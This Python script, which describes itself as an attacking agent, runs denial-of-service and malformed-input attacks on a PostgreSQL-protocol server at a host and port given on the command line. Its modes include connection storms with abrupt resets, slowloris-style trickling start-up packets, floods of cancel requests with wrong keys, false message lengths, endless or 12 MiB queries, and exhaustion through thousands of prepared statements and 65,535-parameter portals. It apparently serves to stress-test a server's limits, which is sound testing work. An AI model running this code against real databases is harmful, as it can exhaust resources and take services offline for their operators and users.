"""An agent that attacks: python fire.py MODE HOST PORT [COUNT ...]. Uses what raw.py does in the same folder.

storm N       connects N times as fast as it can, and closes in turn well, by a reset, or after garbage
cancels N     N cancel requests with wrong keys
silent N      N connections that say nothing; prints how many were closed, and after how long the last one was
loris N       N connections that send a byte of a start-up each second; prints as silent does
crowd N       N sessions at once; prints `open N`, waits for a line, asks a question in each hundredth, closes them
pipeline K N  N messages of kind K (sync, parse, query, bind) without reading; once they are stuck, reads and counts answers
length L      a message that says it is L bytes long; prints how that ends
endless       a statement without end; prints how that ends
long          12 MiB at once, over IPv6 where there is any; prints how that ends, and after how many seconds
half          a query, and the half that is written closed; prints what comes
bulk N MIB    N sessions that each send all but the last byte of a Bind; prints how each stands
names N       N prepared statements with long names; prints the SQLSTATE at the bound, or how many there were
portals N     N portals of 65,535 NULLs; prints the same
lost          a session that asks nothing for as long as it lasts; prints `open`, then how it ends
unread        asks for much and reads nothing until it is told
"""

import select
import socket
import struct
import sys
import time

from raw import ending, message, start_up, state

HOST, PORT = sys.argv[2], int(sys.argv[3])
REST = sys.argv[4:]


ADDRESS = socket.getaddrinfo(HOST, PORT, socket.AF_INET)[0][4]


def connect(timeout=60):
    return socket.create_connection(ADDRESS, timeout=timeout)


def session():
    stream = connect()
    start_up(stream)
    return stream


def frame(tag, body=b""):
    return tag + struct.pack("!I", len(body) + 4) + body


def reset(stream):
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    stream.close()


def storm(count):
    open_now, refused = [], 0
    for number in range(count):
        stream = socket.socket()
        stream.settimeout(60)
        try:
            stream.connect(ADDRESS)
            if number % 3 == 2:
                stream.sendall(b"\x16\x03\x01\x02\x00\x01")
        except OSError:
            refused += 1
        open_now.append((number, stream))
        if len(open_now) > 200:
            oldest, stream = open_now.pop(0)
            reset(stream) if oldest % 3 == 1 else stream.close()
    print("connected", count - refused, "of", count)


def cancels(count):
    for number in range(count):
        try:
            with connect() as stream:
                stream.sendall(struct.pack("!IIII", 16, 80877102, number, number))
        except OSError:
            pass
    # Who has ended cannot be identified any more.
    print("sent", flush=True)
    sys.stdin.readline()


def until_closed(streams, each_second=lambda: None):
    """How many are closed by the other side within two minutes, and when the last one was."""
    began, last, left = time.monotonic(), 0.0, set(streams)
    while left and time.monotonic() - began < 120:
        each_second()
        readable, _, _ = select.select(list(left), [], [], 1)
        for stream in readable:
            try:
                over = stream.recv(65536) == b""
            except OSError:
                over = True
            if over:
                left.discard(stream)
                last = time.monotonic() - began
    print("closed", len(streams) - len(left), "last", int(last))


def silent(count):
    until_closed([connect() for _ in range(count)])


def loris(count):
    streams = [connect() for _ in range(count)]
    packet = struct.pack("!II", 9000, 196608) + b"x" * 8992
    sent = [0]

    def trickle():
        for stream in streams:
            try:
                stream.send(packet[sent[0] : sent[0] + 1])
            except OSError:
                pass
        sent[0] += 1

    until_closed(streams, trickle)


def crowd(count):
    streams, refused = [], 0
    poll = select.epoll()
    body = struct.pack("!I", 196608) + b"user\0billing\0database\0orders\0\0"
    packet = struct.pack("!I", len(body) + 4) + body
    waiting, ready, begun, heard = {}, 0, 0, {}
    while ready + refused < count:
        while begun < count and len(waiting) < 64:
            try:
                stream = connect()
                stream.sendall(packet)
            except OSError:
                refused += 1
                begun += 1
                continue
            begun += 1
            stream.setblocking(False)
            waiting[stream.fileno()], heard[stream.fileno()] = stream, b""
            poll.register(stream, select.EPOLLIN)
        for number, _ in poll.poll(60):
            try:
                data = waiting[number].recv(65536)
            except OSError:
                data = b""
            heard[number] += data
            if not data or heard[number].endswith(b"Z\0\0\0\5I"):
                poll.unregister(number)
                stream = waiting.pop(number)
                if data:
                    streams.append(stream)
                    ready += 1
                else:
                    refused += 1
    print("open", ready, "refused", refused, flush=True)
    sys.stdin.readline()
    answered = 0
    for stream in streams[::100]:
        stream.setblocking(True)
        stream.sendall(frame(b"Q", b"SELECT 1\0"))
        answered += ending(stream) == "ready"
    print("answered", answered, "of", len(streams[::100]), flush=True)
    for number, stream in enumerate(streams):
        reset(stream) if number % 2 else stream.close()


KINDS = {
    "sync": (frame(b"S"), b"Z"),
    "parse": (frame(b"P", b"\0SELECT 1\0\0\0"), b"1"),
    "bind": (frame(b"B", b"\0\0\0\0\0\0\0\0"), b"2"),
    "query": (frame(b"Q", b"SELECT 1\0"), b"Z"),
}


def pipeline(kind, count):
    stream = session()
    one, answer = KINDS[kind]
    rest = one * count + (b"" if answer == b"Z" else frame(b"S"))
    if kind == "bind":
        rest = KINDS["parse"][0] + rest
    stream.setblocking(False)
    view, sent = memoryview(rest), 0
    while sent < len(rest):
        _, writable, _ = select.select([], [stream], [], 3)
        if not writable:
            break
        sent += stream.send(view[sent : sent + (1 << 20)])
    print("stuck" if sent < len(rest) else "sent", sent, "of", len(rest), flush=True)
    sys.stdin.readline()
    answers, heard = 0, b""
    deadline = time.monotonic() + 100
    while answers < count and time.monotonic() < deadline:
        readable, writable, _ = select.select([stream], [stream] if sent < len(rest) else [], [], 20)
        if not readable and not writable:
            break
        if writable:
            sent += stream.send(view[sent : sent + (1 << 18)])
        if readable:
            data = stream.recv(1 << 18)
            if not data:
                break
            heard += data
            at = 0
            while len(heard) - at >= 5:
                length = struct.unpack_from("!I", heard, at + 1)[0]
                if len(heard) - at < length + 1:
                    break
                answers += heard[at : at + 1] == answer
                at += length + 1
            heard = heard[at:]
    print("answers", answers, flush=True)


def length(said):
    stream = session()
    stream.sendall(b"Q" + struct.pack("!I", int(said) & 0xFFFFFFFF) + b"SELECT 1\0")
    print(ending(stream))


def endless():
    stream = session()
    try:
        stream.sendall(b"Q" + struct.pack("!I", (16 << 20) - 8))
        for _ in range(64):
            stream.sendall(b"x" * (1 << 20))
    except OSError:
        pass
    print(ending(stream))


def long():
    found = socket.getaddrinfo(HOST, PORT, type=socket.SOCK_STREAM)
    six = [entry for entry in found if entry[0] == socket.AF_INET6]
    stream = socket.socket((six or found)[0][0])
    try:
        # It writes more than 64 KiB at once, which others may not.
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_CONGESTION, b"bbr")
    except OSError:
        pass
    stream.settimeout(60)
    stream.connect((six or found)[0][4])
    start_up(stream)
    began = time.monotonic()
    stream.sendall(frame(b"Q", b"SELECT 1 /* " + b"x" * (12 << 20) + b" */\0"))
    print(ending(stream), int(time.monotonic() - began))


def half():
    stream = session()
    stream.sendall(frame(b"Q", b"SELECT 'half', pg_sleep(1)\0"))
    stream.shutdown(socket.SHUT_WR)
    data = b""
    while more := stream.recv(65536):
        data += more
    print("half" if b"half" in data and data.endswith(b"Z\0\0\0\5I") else data)


def bulk(count, mebibytes):
    streams = [session() for _ in range(count)]
    size = int(mebibytes) << 20
    for stream in streams:
        stream.settimeout(20)
        try:
            stream.sendall(b"B" + struct.pack("!I", size) + b"\0\0")
            for _ in range(int(mebibytes) - 1):
                stream.sendall(b"x" * (1 << 20))
        except OSError:
            pass
    print("sent", flush=True)
    sys.stdin.readline()
    ends = []
    for stream in streams:
        stream.settimeout(1)
        ends.append(ending(stream))
    print(*(end.split()[0] for end in ends), flush=True)


def bounded(count, each, last):
    """Says `count` messages, a thousand at a time, and prints what refuses them."""
    stream = session()
    for start in range(0, count, last):
        stream.sendall(b"".join(each(number) for number in range(start, start + last)) + frame(b"S"))
        while True:
            tag, body = message(stream)
            if tag == b"E":
                print(state(body), "after", start)
                return
            if tag == b"Z":
                break
    print("none after", count)


def names(count):
    bounded(count, lambda number: frame(b"P", b"%063d\0SELECT 1\0\0\0" % number), 1000)


def portals(count):
    nulls = struct.pack("!H", 65535) + b"\xff\xff\xff\xff" * 65535 + b"\0\0"
    text = b"SELECT 1 WHERE 1 IN (" + b",".join(b"$%d::int" % (n + 1) for n in range(65535)) + b")"
    first = frame(b"P", b"s\0" + text + b"\0\0\0")
    bounded(count, lambda number: (first if number == 0 else b"") + frame(b"B", b"%d\0s\0\0\0" % number + nulls), count)


def unread():
    stream = session()
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    stream.sendall(frame(b"Q", b"SELECT repeat('x', 1000) FROM generate_series(1, 1000000)\0"))
    print("asked", flush=True)
    sys.stdin.readline()


def lost():
    stream = session()
    print("open", flush=True)
    stream.settimeout(90)
    print(ending(stream), flush=True)


def main():
    mode = sys.argv[1]
    if mode == "pipeline":
        pipeline(REST[0], int(REST[1]))
    elif mode == "bulk":
        bulk(int(REST[0]), REST[1])
    elif mode == "length":
        length(REST[0])
    elif REST:
        globals()[mode](int(REST[0]))
    else:
        globals()[mode]()


if __name__ == "__main__":
    main()
